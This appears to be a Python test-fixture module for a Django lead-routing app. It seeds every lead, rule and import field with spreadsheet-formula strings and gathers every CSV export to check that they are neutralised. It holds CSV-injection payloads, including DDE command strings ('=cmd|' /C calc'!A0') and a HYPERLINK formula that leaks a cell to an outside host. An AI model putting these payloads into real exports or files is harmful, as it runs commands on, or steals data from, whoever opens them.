"""Every file that LeadOps writes, of leads whose every text is one that a spreadsheet would run or choke on."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Sequence
from pathlib import Path
from types import SimpleNamespace
from typing import Any, Final

from django.core.cache import cache
from django.test import Client
from django.urls import reverse
from django.utils.timezone import now

from reports.exports.sheets import SHEETS
from reports.registry import reports
from reps.models import Activity
from routing import imports
from routing.intake.columns import guesses
from routing.intake.importing import Rejects, import_leads
from routing.intake.normalise.text import clean
from routing.intake.uploading import keep
from routing.models import Assignment, Posting, Rep, Rule, Source, Team
from routing.plan.publish import publish
from tests.cast import MONDAY_MORNING, cast, lead_in_pool, lead_of, person, source
from tests.naughty import TEXTS, naughty, sample
from tests.reports.past_postings import eligible

SIGNS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠")
BEFORE: Final = ("", " ", "\u00a0", "\u200b", "\ufeff", '"', "'", "''", "x;", "x\t", "x\n", "x\r\n", 'x;"', "x;'")
FORMULAS: Final = (
    *(f"{before}{sign}1+1" for before in BEFORE for sign in SIGNS),
    *("-5", "+4912345", "-1.5", "007", "'tis", "''", "'", "'s-Hertogenbosch", "a;b", '"', '""', "a,b", "a\\", "\\,"),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://one.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "x;=cmd|' /C calc'!A0;",
)


ALL: Final = {"all": [{"field": "company_size", "op": "at_least", "value": 1}]}


def some() -> list[str]:
    """A few of every kind."""
    return [*FORMULAS[::4], *FORMULAS[-18:], *sample()]


def all_of_them() -> list[str]:
    return [*FORMULAS, *naughty()]


def filled(texts: Sequence[str]) -> SimpleNamespace:
    """A house in which each of these stands in every text of a lead, of its history, and of what was done with it."""
    cache.clear()
    people = cast()
    people.root = person("root", is_staff=True, is_superuser=True)
    Rule.objects.create(slug="rest", name="=The rest", to_team=people.inside, position=9)
    publish(at=MONDAY_MORNING)
    Rule.objects.create(slug="moved", name="-Moved", to_team=people.outside, position=1, when=ALL)
    web = source()
    Source.objects.update(name="@web")
    Team.objects.update(name="=team")
    Rep.objects.update(name="+rep")
    people.texts = texts
    people.leads, people.picked = [], []
    for number, text in enumerate(texts):
        told = facts(text, number)
        became = {"rule": text[:80], "lost_reason": text[:200]}
        one = lead_of(people.laura, team=people.inside, **became, **told)
        people.leads.append(one)
        Assignment.objects.filter(lead=one).update(note=text[:500], rule=text[:80], ended_because=text[:40])
        Activity.objects.create(
            lead=one, kind="note", direction="", body=text or "empty", rep=people.laura, by=people.laura.user, at=now()
        )
        people.picked.append(lead_in_pool(people.inside, "pick", **told | {"external_id": f"p{number}"}))
        lead_in_pool(people.inside, "manual", **told | {"external_id": f"m{number}"})
    delivered = people.leads[0]
    Posting.objects.create(
        team=people.inside, at=MONDAY_MORNING, winner=people.laura, eligible=eligible({people.laura.pk: 1}),
        reason="assign", lead=delivered, assignment=delivered.assignments.get(),
    )  # fmt: skip
    people.source = web
    return people


def facts(text: str, number: int) -> dict[str, Any]:
    """The same text wherever a lead has text, and nobody is taken for somebody else."""
    told = {name: text[:length] for name, length in TEXTS.items() if name != "consent"}
    unknown = {"email_key": "", "phone_key": "", "email_domain": "", "company_key": ""}
    own = {"external_id": f"{text[:200]} {number}", "attributes": {"told": text, "n": str(number)}, "company_size": 12}
    return told | unknown | own


def of(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def sent(answer: Any) -> bytes:
    assert answer.status_code == 200, answer
    assert answer["Content-Type"].startswith("text/csv"), answer["Content-Type"]
    return b"".join(answer.streaming_content)


def from_the_list_of_leads(house: SimpleNamespace) -> bytes:
    asked = {"action": "export", "select_across": "1", "_selected_action": house.leads[0].pk}
    return sent(of(house.root).post(reverse("admin:routing_lead_changelist"), asked))


def rejects(house: SimpleNamespace) -> bytes:
    """Those of an import whose every row but one is turned away."""
    body = io.BytesIO(rows_without_anybody(house.texts))
    asked = {"by": house.root, "routes": False, "starts_sla": False, "at": now()}
    run = keep(body, name="=a.csv", size=0, source=house.source, **asked)
    imports.check(run=run, chosen={header: guess.field for header, guess in guesses(run).items()}, at=now())
    for _ in imports.work():
        pass
    return sent(of(house.root).get(reverse("admin:import_rejects", args=[run.pk])))


def rejects_of_the_command(house: SimpleNamespace, folder: Path) -> bytes:
    file, out = folder / "in.csv", folder / "rejects.csv"
    file.write_bytes(rows_without_anybody(house.texts))
    with Rejects(out) as turned_away:
        import_leads(file, source=house.source, rejects=turned_away, dry_run=True)
    return out.read_bytes()


def rows_without_anybody(texts: Sequence[str]) -> bytes:
    """A file of somebody else's, nothing guarded, only the first row of which says who it is."""
    file = io.StringIO(newline="")
    add = csv.writer(file, quoting=csv.QUOTE_ALL).writerow
    add(["Email", "Interest", "=Free text"])
    add(["somebody@one.example", "x", "x"])
    for number, text in enumerate(map(clean, texts)):
        add([f"{number}@", text, text])
    return file.getvalue().encode()


Export = Callable[[SimpleNamespace, Path], bytes]


def by_get(who: str, address: str) -> Export:
    def got(house: SimpleNamespace, _: Path) -> bytes:
        user = house.root if who == "root" else house.laura.user
        return sent(of(user).get(address))

    return got


EXPORTS: Final[dict[str, Export]] = {
    "the list of leads": lambda house, _: from_the_list_of_leads(house),
    "the manual queue": by_get("root", "/admin/routing/lead/manual/?format=csv"),
    "the replay": by_get("root", "/admin/routing/plansettings/replay/?leads=1000&which=all&format=csv"),
    "rejects": lambda house, _: rejects(house),
    "rejects of the command": rejects_of_the_command,
    "the pool": by_get("laura", "/pool/?format=csv"),
    "my numbers": by_get("laura", "/my-numbers/?format=csv"),
    **{f"raw {slug}": by_get("root", f"/reports/exports/{slug}.csv") for slug in SHEETS},
    **{f"report {slug}": by_get("root", f"/reports/{slug}.csv?period=all-time") for slug in sorted(reports())},
}
